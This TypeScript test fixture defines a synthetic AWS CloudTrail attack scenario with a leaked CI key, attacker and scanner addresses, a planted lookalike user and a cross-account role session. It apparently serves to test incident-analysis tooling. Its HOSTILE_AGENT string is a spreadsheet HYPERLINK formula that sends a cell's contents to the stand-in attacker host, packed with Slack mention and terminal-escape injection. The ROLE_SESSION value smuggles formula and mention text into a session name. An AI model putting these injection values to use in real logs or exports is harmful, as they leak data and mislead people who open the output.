import type { CloudTrailRecord } from '../../history/fields.ts'
import { namedKeyId } from '../../keyId.ts'
import { HEX, hash32, letters } from '../../random.ts'
import { PROD_DATA, PROD_PAYMENTS } from '../accounts.ts'
import { iamUser, roleSession } from '../userIdentity.ts'

/** Where the attack takes place and who is in it. */

export const HOME = PROD_PAYMENTS
export const OTHER = PROD_DATA
export const REGION = 'eu-west-1'

/** Documentation addresses (RFC 5737): no one's. */
export const SCANNER_ADDRESS = '198.51.100.23'
export const ATTACK_ADDRESS = '203.0.113.66'
export const SECOND_ADDRESS = '203.0.113.67'

/** An account outside the organisation that the attacker shares with and trusts. */
export const OUTSIDE_ACCOUNT = '999988887777'

export const SCANNER_AGENT = 'TruffleHog'
export const CLI_AGENT =
  'aws-cli/2.31.9 md/awscrt#0.27.6 ua/2.1 os/linux#6.12.33+kali-amd64 md/arch#x86_64 lang/python#3.13.7 md/pyimpl#CPython m/E,b,Z cfg/retry-mode#standard md/installer#exe md/prompt#off'
export const BOTO_AGENT =
  'Boto3/1.40.21 md/Botocore#1.40.21 ua/2.1 os/linux#6.12.33+kali-amd64 md/arch#x86_64 lang/python#3.13.7'
/** Text that wants to ping a channel, run in a spreadsheet, and colour a terminal. */
export const HOSTILE_AGENT =
  '<!channel> =HYPERLINK("http://203.0.113.66/c?"&A1,"open") <https://203.0.113.66|fine> \u001b[31mroot\u001b[0m'
export const BROWSER_AGENT = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'

export const LEAKED_USER = 'ci-deploy'
export const SECOND_USER = 'backup'
export const PLANTED_USER = 'svc-metrcis'
export const LEAKED_KEY = namedKeyId('AKIA', HOME, LEAKED_USER)
export const SECOND_KEY = namedKeyId('AKIA', HOME, 'backup second key')
export const PLANTED_KEY = namedKeyId('AKIA', HOME, PLANTED_USER)
export const ROLE_KEY = namedKeyId('ASIA', OTHER, 'data-maintenance session')
export const ROLE = 'data-maintenance'
/** All characters that STS allows in a session name, put to bad use. */
export const ROLE_SESSION = '=2+5,@channel_-_oncall_'
export const BUCKET = 'harbour-payments-exports'

/** Who makes a call, from where, and with what. */
export type Hand = {
  readonly account: string
  readonly accessKeyId: string | undefined
  readonly address: string
  readonly agent: string
  /** `at` is the time of the call. */
  readonly identity: (at: number) => CloudTrailRecord
}

export const SCANNER: Hand = hand(LEAKED_USER, LEAKED_KEY, SCANNER_ADDRESS, SCANNER_AGENT)
export const LEAKED: Hand = hand(LEAKED_USER, LEAKED_KEY, ATTACK_ADDRESS, CLI_AGENT)
export const LEAKED_SCRIPT: Hand = hand(LEAKED_USER, LEAKED_KEY, ATTACK_ADDRESS, BOTO_AGENT)
export const SECOND: Hand = hand(SECOND_USER, SECOND_KEY, SECOND_ADDRESS, CLI_AGENT)
export const SECOND_HOSTILE: Hand = hand(SECOND_USER, SECOND_KEY, SECOND_ADDRESS, HOSTILE_AGENT)
export const SECOND_BROWSER: Hand = hand(SECOND_USER, undefined, SECOND_ADDRESS, BROWSER_AGENT)

/** The session in the other account, made `created` seconds since 1970. */
export function inRole(created: number): Hand {
  const identity = roleSession({ account: OTHER, role: ROLE, session: ROLE_SESSION, accessKeyId: ROLE_KEY, created })
  return { account: OTHER, accessKeyId: ROLE_KEY, address: SECOND_ADDRESS, agent: CLI_AGENT, identity: () => identity }
}

function hand(user: string, key: string | undefined, address: string, agent: string): Hand {
  return { account: HOME, accessKeyId: key, address, agent, identity: () => iamUser(HOME, user, key) }
}

/** An id in hexadecimal digits, the same in each run. */
export function hexId(seed: string, length: number): string {
  return letters(hash32('incident', seed), length, HEX)
}
